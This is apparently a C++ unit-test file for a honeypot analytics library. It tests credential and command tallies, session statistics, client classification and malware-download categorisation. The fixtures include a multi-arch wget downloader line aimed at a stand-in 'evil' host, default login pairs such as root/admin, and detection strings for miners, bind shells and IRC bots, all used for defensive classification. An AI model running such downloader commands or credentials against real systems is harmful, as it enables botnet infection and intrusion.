#include <doctest.h>

#include "analytics.h"
#include "util.h"

using namespace apiary;

namespace {

EventEnvelope env(const std::string& sid, std::uint64_t seq, std::int64_t ts,
                  EventPayload payload) {
    EventEnvelope e;
    e.session_id = sid;
    e.seq = seq;
    e.timestamp_ms = ts;
    e.kind = payload_kind(payload);
    e.payload = std::move(payload);
    return e;
}

std::string sid(char c) { return std::string(32, c); }

struct StoreBuilder {
    EventStore store;
    std::map<std::string, std::uint64_t> seqs;
    std::int64_t ts = 1000;

    void open(const std::string& session, const std::string& honeypot,
              const std::string& addr,
              std::optional<std::string> banner = std::nullopt) {
        SessionOpen o;
        o.honeypot_id = honeypot;
        o.protocol = Protocol::telnet;
        o.source_addr = addr;
        o.source_port = 40000;
        o.client_banner = std::move(banner);
        add(session, o);
    }
    void auth(const std::string& session, const std::string& user,
              const std::string& pass, bool ok) {
        AuthAttempt a;
        a.username = user;
        a.password = pass;
        a.success = ok;
        add(session, a);
    }
    void command(const std::string& session, const std::string& raw) {
        CommandEvent c;
        c.raw_line = raw;
        add(session, c);
    }
    void hit(const std::string& session, const std::string& label) {
        SignatureHit h;
        h.label = label;
        h.method = "GET";
        h.path_and_query = "/";
        add(session, h);
    }
    void add(const std::string& session, EventPayload payload) {
        store.add(env(session, seqs[session]++, ts++, std::move(payload)));
    }
    EventStore done() {
        store.finalize();
        return std::move(store);
    }
};

ClassifierRules classifier(const std::string& text) {
    std::vector<std::string> errors;
    auto rules = ClassifierRules::parse(text, errors);
    REQUIRE(rules.has_value());
    return *rules;
}

CategoryRules categories(const std::string& text) {
    std::vector<std::string> errors;
    auto rules = CategoryRules::parse(text, errors);
    REQUIRE(rules.has_value());
    return *rules;
}

}  // namespace

TEST_CASE("top credentials counts every attempt and breaks ties by name") {
    StoreBuilder b;
    b.open(sid('a'), "hp1", "10.0.0.1");
    // hand-tallied corpus: root/admin x3 (one success), root/root x2,
    // admin/1234 x2, guest/guest x1
    b.auth(sid('a'), "root", "admin", false);
    b.auth(sid('a'), "root", "root", false);
    b.auth(sid('a'), "admin", "1234", false);
    b.auth(sid('a'), "root", "admin", true);
    b.open(sid('b'), "hp1", "10.0.0.2");
    b.auth(sid('b'), "root", "admin", false);
    b.auth(sid('b'), "admin", "1234", false);
    b.auth(sid('b'), "root", "root", false);
    b.auth(sid('b'), "guest", "guest", false);
    EventStore store = b.done();

    auto top = top_credentials(store, 10);
    REQUIRE(top.size() == 4);
    CHECK(top[0].first == std::make_pair(std::string("root"),
                                         std::string("admin")));
    CHECK(top[0].second == 3);
    // 2-2 tie: "admin" sorts before "root"
    CHECK(top[1].first.first == "admin");
    CHECK(top[1].second == 2);
    CHECK(top[2].first == std::make_pair(std::string("root"),
                                         std::string("root")));
    CHECK(top[3].second == 1);

    auto top2 = top_credentials(store, 2);
    REQUIRE(top2.size() == 2);
    CHECK(top2[0].second == 3);
    CHECK(top_credentials(store, 0).empty());
}

TEST_CASE("same username with different passwords stays separate") {
    StoreBuilder b;
    b.open(sid('a'), "hp1", "10.0.0.1");
    b.auth(sid('a'), "root", "", false);
    b.auth(sid('a'), "root", " ", false);
    EventStore store = b.done();
    auto top = top_credentials(store, 10);
    REQUIRE(top.size() == 2);
    CHECK(top[0].first.second == "");  // empty sorts before space
    CHECK(top[1].first.second == " ");
}

TEST_CASE("top commands merge on trimmed raw line") {
    StoreBuilder b;
    b.open(sid('a'), "hp1", "10.0.0.1");
    b.command(sid('a'), "uname -a");
    b.command(sid('a'), "  uname -a  ");
    b.command(sid('a'), "uname -a\t");
    b.command(sid('a'), "cat /proc/cpuinfo");
    EventStore store = b.done();

    auto top = top_commands(store, 10);
    REQUIRE(top.size() == 2);
    CHECK(top[0].first == "uname -a");
    CHECK(top[0].second == 3);
    CHECK(top[1].first == "cat /proc/cpuinfo");
    CHECK(top[1].second == 1);
}

TEST_CASE("signature summary groups hits by label") {
    StoreBuilder b;
    b.open(sid('a'), "cam0", "10.0.0.1");
    b.hit(sid('a'), "CVE-2018-9995");
    b.hit(sid('a'), "Malicious Activity");
    b.open(sid('b'), "cam0", "10.0.0.2");
    b.hit(sid('b'), "CVE-2018-9995");
    EventStore store = b.done();

    auto summary = signature_summary(store);
    REQUIRE(summary.size() == 2);
    CHECK(summary[0] == std::make_pair(std::string("CVE-2018-9995"),
                                       std::int64_t{2}));
    CHECK(summary[1].first == "Malicious Activity");
}

TEST_CASE("geo summary maps sessions and collects unmatched under ??") {
    std::vector<std::string> errors;
    auto geo = GeoTable::parse("10.0.0.0/8,CN\n20.0.0.0/8,US\n", errors);
    REQUIRE(geo.has_value());

    StoreBuilder b;
    b.open(sid('a'), "hp1", "10.1.1.1");
    b.open(sid('b'), "hp1", "10.2.2.2");
    b.open(sid('c'), "hp1", "20.1.1.1");
    b.open(sid('d'), "hp1", "99.9.9.9");
    EventStore store = b.done();

    auto summary = geo_summarize(store, *geo);
    REQUIRE(summary.size() == 3);
    CHECK(summary[0] == std::make_pair(std::string("CN"), std::int64_t{2}));
    // 1-1 tie between "??" and "US": "??" sorts first
    CHECK(summary[1].first == "??");
    CHECK(summary[2].first == "US");
}

TEST_CASE("session stats fractions are per session, not per event") {
    StoreBuilder b;
    // session a: two failures then success, runs a command
    b.open(sid('a'), "hp1", "10.0.0.1");
    b.auth(sid('a'), "root", "x", false);
    b.auth(sid('a'), "root", "y", false);
    b.auth(sid('a'), "root", "admin", true);
    b.command(sid('a'), "ls");
    b.command(sid('a'), "id");
    // session b: failure only
    b.open(sid('b'), "hp1", "10.0.0.2");
    b.auth(sid('b'), "root", "z", false);
    // session c: no auth at all
    b.open(sid('c'), "hp2", "10.0.0.3");
    // session d: success, no command
    b.open(sid('d'), "hp2", "10.0.0.4");
    b.auth(sid('d'), "admin", "", true);
    EventStore store = b.done();

    SessionStats stats = session_stats(store);
    CHECK(stats.hits == 4);
    CHECK(stats.login_success_sessions == 2);
    CHECK(stats.command_exec_sessions == 1);
    REQUIRE(stats.login_success_fraction.has_value());
    CHECK(*stats.login_success_fraction == doctest::Approx(0.5));
    REQUIRE(stats.command_exec_session_fraction.has_value());
    CHECK(*stats.command_exec_session_fraction == doctest::Approx(0.25));
    CHECK(stats.per_honeypot.at("hp1") == 2);
    CHECK(stats.per_honeypot.at("hp2") == 2);
}

TEST_CASE("session stats on an empty store leave fractions undefined") {
    EventStore store;
    store.finalize();
    SessionStats stats = session_stats(store);
    CHECK(stats.hits == 0);
    CHECK_FALSE(stats.login_success_fraction.has_value());
    CHECK_FALSE(stats.command_exec_session_fraction.has_value());
    CHECK(stats.per_honeypot.empty());
}

TEST_CASE("classifier first matching rule wins") {
    ClassifierRules rules = classifier(
        "# order matters\n"
        "bot Go\n"
        "human OpenSSH\n"
        "bot libssh2\n");
    CHECK(classify_client(std::string("SSH-2.0-Go"), rules) ==
          ClientClass::bot);
    CHECK(classify_client(std::string("SSH-2.0-OpenSSH_8.9"), rules) ==
          ClientClass::human);
    CHECK(classify_client(std::string("SSH-2.0-libssh2_1.9"), rules) ==
          ClientClass::bot);
    CHECK(classify_client(std::string("SSH-2.0-WeirdClient"), rules) ==
          ClientClass::unknown);
    CHECK(classify_client(std::nullopt, rules) == ClientClass::unknown);
    CHECK(classify_client(std::string(""), rules) == ClientClass::unknown);
}

TEST_CASE("classifier substring match is exact case") {
    ClassifierRules rules = classifier("bot zgrab\n");
    CHECK(classify_client(std::string("Mozilla zgrab/0.x"), rules) ==
          ClientClass::bot);
    CHECK(classify_client(std::string("ZGrab"), rules) ==
          ClientClass::unknown);
}

TEST_CASE("classifier rejects malformed lines with line numbers") {
    std::vector<std::string> errors;
    auto rules = ClassifierRules::parse(
        "bot Go\n"
        "robot Go\n"
        "human\n",
        errors);
    CHECK_FALSE(rules.has_value());
    REQUIRE(errors.size() == 2);
    CHECK(contains(errors[0], "line 2"));
    CHECK(contains(errors[1], "line 3"));
}

TEST_CASE("classify sessions reports all three classes even at zero") {
    ClassifierRules rules = classifier("bot Go\nhuman OpenSSH\n");
    StoreBuilder b;
    b.open(sid('a'), "hp1", "10.0.0.1", std::string("SSH-2.0-Go"));
    b.open(sid('b'), "hp1", "10.0.0.2", std::string("SSH-2.0-Go"));
    b.open(sid('c'), "hp1", "10.0.0.3");
    EventStore store = b.done();

    auto counts = classify_sessions(store, rules);
    REQUIRE(counts.size() == 3);
    CHECK(counts[ClientClass::bot] == 2);
    CHECK(counts[ClientClass::human] == 0);
    CHECK(counts[ClientClass::unknown] == 1);
}

TEST_CASE("category rules parse and reject malformed lines") {
    CategoryRules rules = categories(
        "# content rules\n"
        "content irc.freenode IRCBot\n"
        "family mirai IRCBot/Mirai\n");
    CHECK(rules.content_rules().size() == 1);
    CHECK(rules.family_rules().size() == 1);

    std::vector<std::string> errors;
    auto bad = CategoryRules::parse(
        "content onlysubstring\n"
        "banana x y\n",
        errors);
    CHECK_FALSE(bad.has_value());
    REQUIRE(errors.size() == 2);
    CHECK(contains(errors[0], "line 1"));
    CHECK(contains(errors[1], "line 2"));
    CHECK(contains(errors[1], "banana"));
}

TEST_CASE("multi-arch fetch scripts are shell downloaders") {
    CategoryRules rules = categories("content wget Others\n");
    std::string script =
        "#!/bin/sh\n"
        "for a in x86 arm mips; do wget http://evil/bins/$a; done\n";
    CHECK(categorize_download(script, rules, nullptr) == "SHELLDownloader");

    // a single-target fetch is not the multi-arch pattern
    std::string simple = "wget http://example.com/x86.bin\n";
    CHECK(categorize_download(simple, rules, nullptr) != "SHELLDownloader");

    // ELF bytes never take the script path even with embedded strings
    std::string elf = std::string("\x7f") + "ELF wget x86 arm mips";
    CHECK(categorize_download(elf, rules, nullptr) != "SHELLDownloader");
}

TEST_CASE("content categorization takes the first matching rule") {
    CategoryRules rules = categories(
        "content PRIVMSG IRCBot\n"
        "content /usr/bin/xmrig CoinMiner\n"
        "content bind_shell BACKDOOR\n");
    CHECK(categorize_download("NICK x PRIVMSG #c :hi", rules, nullptr) ==
          "IRCBot");
    CHECK(categorize_download("exec /usr/bin/xmrig -o pool", rules, nullptr) ==
          "CoinMiner");
    CHECK(categorize_download("benign text", rules, nullptr) == "Others");
    // both substrings present: rule order decides
    CHECK(categorize_download("PRIVMSG /usr/bin/xmrig", rules, nullptr) ==
          "IRCBot");
}

TEST_CASE("reputation family refines only confirmed-malicious verdicts") {
    CategoryRules rules = categories(
        "content PRIVMSG IRCBot\n"
        "family mirai IRCBot/Mirai\n"
        "family gafgyt IRCBot/Gafgyt\n");

    ReputationVerdictView malicious;
    malicious.malicious = true;
    malicious.family = "trojan.linux/MIRAI";
    CHECK(categorize_download("NICK x PRIVMSG #c", rules, &malicious) ==
          "IRCBot/Mirai");
    // family knowledge can name an otherwise unclassified blob
    CHECK(categorize_download("opaque bytes", rules, &malicious) ==
          "IRCBot/Mirai");

    ReputationVerdictView clean;
    clean.malicious = false;
    clean.family = "trojan.linux/MIRAI";
    CHECK(categorize_download("NICK x PRIVMSG #c", rules, &clean) == "IRCBot");

    ReputationVerdictView silent;  // provider never answered
    silent.family = "trojan.linux/MIRAI";
    CHECK(categorize_download("opaque bytes", rules, &silent) == "Others");

    ReputationVerdictView unknown_family;
    unknown_family.malicious = true;
    unknown_family.family = "trojan.linux/unheardof";
    CHECK(categorize_download("NICK x PRIVMSG #c", rules, &unknown_family) ==
          "IRCBot");
}
